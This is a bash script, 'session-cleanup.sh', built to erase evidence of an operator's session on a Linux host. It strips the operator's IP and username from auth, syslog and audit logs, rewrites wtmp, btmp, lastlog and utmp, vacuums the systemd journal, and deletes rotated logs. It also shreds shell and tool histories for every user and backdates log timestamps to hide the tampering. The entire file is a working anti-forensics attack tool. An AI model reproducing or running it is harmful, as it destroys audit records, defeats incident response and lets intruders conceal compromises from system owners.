#!/usr/bin/env bash
# session-cleanup.sh - remove traces of the current operator session.
#
# Drops login records for the operator's source address from wtmp/btmp,
# strips matching lines from the auth/syslog files, vacuums the journal,
# and destroys shell history for all users. Intended to run last, just
# before disconnecting.
#
# usage: session-cleanup.sh [-i SOURCE_IP] [-u USER]

OP_IP="${SSH_CLIENT%% *}"
OP_USER="$(id -un)"

while getopts "i:u:" opt; do
    case "$opt" in
        i) OP_IP="$OPTARG" ;;
        u) OP_USER="$OPTARG" ;;
        *) exit 2 ;;
    esac
done

# nothing from this shell should be written back
unset HISTFILE
export HISTSIZE=0 HISTFILESIZE=0
set +o history

TEXT_LOGS=(
    /var/log/auth.log /var/log/secure /var/log/syslog /var/log/messages
    /var/log/audit/audit.log /var/log/kern.log /var/log/daemon.log
)
BINARY_LOGS=(/var/log/wtmp /var/log/btmp /var/log/lastlog /var/run/utmp)

R() { if [ "$(id -u)" -eq 0 ]; then "$@"; else sudo -n "$@"; fi; }

scrub_text_logs() {
    local f
    for f in "${TEXT_LOGS[@]}" /var/log/auth.log.1 /var/log/secure-*; do
        [ -f "$f" ] || continue
        if [ -n "$OP_IP" ]; then
            R sed -i -e "/${OP_IP//./\\.}/d" -e "/${OP_USER}/d" "$f"
        else
            R truncate -s 0 "$f"
        fi
        # keep mtime plausible
        R touch -r /var/log/dpkg.log "$f" 2>/dev/null
    done
    R find /var/log -type f \( -name '*.gz' -o -name '*.[0-9]' \) -delete 2>/dev/null
}

scrub_binary_logs() {
    local f
    for f in "${BINARY_LOGS[@]}"; do
        [ -f "$f" ] || continue
        if command -v utmpdump >/dev/null && [ -n "$OP_IP" ]; then
            R sh -c "utmpdump '$f' 2>/dev/null | grep -v '$OP_IP' | utmpdump -r > '$f.new' && cat '$f.new' > '$f' && rm -f '$f.new'"
        else
            R sh -c ": > '$f'"
        fi
    done
}

scrub_journal() {
    command -v journalctl >/dev/null || return 0
    R journalctl --rotate >/dev/null 2>&1
    R journalctl --vacuum-time=1s >/dev/null 2>&1
}

scrub_histories() {
    local h
    for h in /root /home/*; do
        for f in .bash_history .zsh_history .sh_history .python_history .mysql_history \
                 .psql_history .lesshst .viminfo .wget-hsts; do
            [ -f "$h/$f" ] || continue
            R shred -u -z -n 3 "$h/$f" 2>/dev/null || R rm -f "$h/$f"
        done
    done
    history -c 2>/dev/null
    ln -sf /dev/null "$HOME/.bash_history"
}

scrub_tmp() {
    rm -rf /tmp/.op-* /dev/shm/.op-* 2>/dev/null
}

scrub_text_logs
scrub_binary_logs
scrub_journal
scrub_histories
scrub_tmp
exit 0
